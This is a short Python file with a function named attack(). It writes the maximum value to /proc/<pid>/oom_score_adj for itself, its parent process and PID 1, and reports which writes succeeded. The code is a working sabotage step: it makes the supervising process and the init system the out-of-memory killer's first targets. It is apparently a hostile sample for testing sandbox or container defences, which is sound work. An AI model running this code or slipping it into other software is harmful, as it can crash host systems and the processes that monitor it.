import os


def attack():
    found = []
    for pid in ("self", os.getppid(), 1):
        try:
            with open(f"/proc/{pid}/oom_score_adj", "w") as file:
                file.write("1000")
            found.append(str(pid))
        except OSError:
            continue
    return found
